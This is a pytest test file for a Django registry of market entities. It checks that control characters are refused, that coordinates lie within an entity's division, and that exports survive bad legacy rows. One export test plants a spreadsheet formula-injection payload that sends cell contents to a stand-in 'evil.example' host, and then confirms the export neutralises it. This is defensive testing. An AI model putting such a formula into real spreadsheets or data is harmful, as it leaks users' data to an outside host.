"""Input rules once (issue 14, finding 4): control characters are refused at every entry point with a
Chinese message, nothing is stored; coordinates must lie in the entity's division; an old row holding
one never breaks an export."""
from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.factories import make_entity

pytestmark = pytest.mark.django_db

SQUARE = {"type": "Polygon", "coordinates": [[[113.70, 22.95], [113.80, 22.95], [113.80, 23.05], [113.70, 23.05], [113.70, 22.95]]]}


def test_rule_single_and_multi_line():
    from zhijian.core.text import control_problem

    assert control_problem("C\u0015") .codepoint == "U+0015"
    assert control_problem("a\tb") is not None and control_problem("a\tb", multiline=True) is None
    assert control_problem("一行\n二行", multiline=True) is None
    assert control_problem("x\x7f", multiline=True).position == 2
    assert control_problem("正常的名称（有限公司）") is None


def test_api_address_with_control_character_is_refused_and_nothing_stored(client, officer):
    e = make_entity("441900003001", address="东莞市莞城街道测试路1号")
    client.force_login(officer)
    r = client.post(f"/api/v1/entities/{e.credit_code}/address/", {"address": "C\u0015", "division_code": "441900003001"},
                    content_type="application/json")
    assert r.status_code == 400, r.content
    err = r.json()["error"]
    assert err["code"] == "control_character" and "U+0015" in err["message"] and "控制字符" in err["message"]
    assert err["detail"]["field"] == "address"
    e.refresh_from_db()
    assert e.address == "东莞市莞城街道测试路1号"
    # PATCH of a plain field, nested JSON too
    r = client.patch(f"/api/v1/entities/{e.credit_code}/", {"legal_rep": "李\u0000四"}, content_type="application/json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "control_character"


def test_single_line_field_refuses_tab_through_the_service(officer):
    from zhijian.core.errors import ApplicationError
    from zhijian.entities import services
    from django.core.exceptions import ValidationError

    e = make_entity("441900003001")
    with pytest.raises((ValidationError, ApplicationError)) as info:
        services.entity_change_address(actor=officer, credit_code=e.credit_code, address="东莞\t路", division_code="441900003001")
    assert "控制字符" in str(info.value)


def test_html_form_post_answers_a_chinese_400_page(client, officer):
    client.force_login(officer)
    r = client.get("/entities/", {"q": "东莞\u0015"})
    assert r.status_code == 400
    text = r.content.decode()
    assert "控制字符" in text and "U+0015" in text and "<nav" in text.lower()


def test_import_rejects_the_row_with_a_control_character(tmp_path, officer):
    from zhijian.entities.importer import Importer
    from zhijian.entities.models import MarketEntity
    from tests.factories import credit_code

    good, bad = credit_code("441900"), credit_code("441900")
    f = tmp_path / "in.csv"
    f.write_text("统一社会信用代码,企业名称,住所,区划代码\n"
                 f"{good},东莞市好名称有限公司,东莞市莞城街道1号,441900003001\n"
                 f"{bad},东莞市坏名称有限公司,C\u0015,441900003001\n", encoding="utf-8")
    summary = Importer(actor=officer).run(f)
    assert MarketEntity.objects.filter(credit_code=good).exists()
    assert not MarketEntity.objects.filter(credit_code=bad).exists()
    [err] = [e for e in summary.errors if e.credit_code == bad]
    assert err.column == "住所" and "U+0015" in err.message and "␕" in err.value


def test_old_row_with_control_character_does_not_break_the_export(officer):
    """A row stored before the rule (written straight to the table) still exports."""
    from zhijian.core import exports
    from zhijian.entities.models import MarketEntity

    e = make_entity("441900003001")
    MarketEntity.objects.filter(pk=e.pk).update(address="C\u0015", name='=HYPERLINK("http://evil.example/?"&A1,"点击查看")')
    data = exports.xlsx_bytes("市场主体", [["名称", "住所"], exports.row([MarketEntity.objects.get(pk=e.pk).name, "C\u0015"])])
    ws = load_workbook(io.BytesIO(data)).active
    name, address = [c.value for c in ws[2]]
    assert name.startswith("'=HYPERLINK") and address == "C"
    assert ws.cell(2, 1).data_type == "s"


def test_coordinates_outside_the_division_are_refused(officer):
    from zhijian.core.errors import ApplicationError
    from zhijian.entities import services
    from zhijian.geo import placement
    from zhijian.geo.models import Grid

    Grid.objects.create(code="G441900003", name="南城街道网格", level=1, division_code="441900003", geometry=SQUARE)
    placement.invalidate()
    e = make_entity("441900003001", lng=113.75, lat=23.0)  # inside: accepted
    assert e.grid_id is not None
    near = make_entity("441900003001", lng=113.805, lat=23.0)  # 500 m outside: within the tolerance
    assert near.lng == 113.805
    with pytest.raises(ApplicationError) as info:  # the Pearl River estuary, 30 km away
        services.entity_update(actor=officer, credit_code=e.credit_code, lng=113.70, lat=22.60)
    assert info.value.code == "invalid_position" and "不在所属区划的范围内" in str(info.value)
    with pytest.raises(ApplicationError) as info:  # lng/lat swapped: not even in China
        services.entity_update(actor=officer, credit_code=e.credit_code, lng=23.0, lat=113.75)
    assert "不在中国境内" in str(info.value)
    e.refresh_from_db()
    assert (e.lng, e.lat) == (113.75, 23.0)
    # A division without imported outlines: only the rough check applies.
    other = make_entity("441900004001", lng=113.95, lat=23.05)
    assert other.lat == 23.05


def test_api_refuses_coordinates_in_the_sea(client, officer):
    from zhijian.geo import placement
    from zhijian.geo.models import Grid

    Grid.objects.create(code="G441900003", name="南城街道网格", level=1, division_code="441900003", geometry=SQUARE)
    placement.invalidate()
    e = make_entity("441900003001", lng=113.75, lat=23.0)
    client.force_login(officer)
    r = client.patch(f"/api/v1/entities/{e.credit_code}/", {"lng": 114.5, "lat": 22.0}, content_type="application/json")
    assert r.status_code == 400, r.content
    assert "不在所属区划的范围内" in r.json()["error"]["message"]


def test_large_api_body_is_read_as_a_stream_and_still_checked(client, officer):
    """A phone's sync may exceed Django's 5 MB form-body cap: the API's parser checks it, not the middleware."""
    import json

    e = make_entity("441900003001")
    client.force_login(officer)
    body = json.dumps({"address": "C\u0015", "division_code": "441900003001", "note": "x" * 6_000_000})
    r = client.post(f"/api/v1/entities/{e.credit_code}/address/", body, content_type="application/json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "control_character", r.content[:300]
    assert r.json()["error"]["detail"]["field"] == "address"
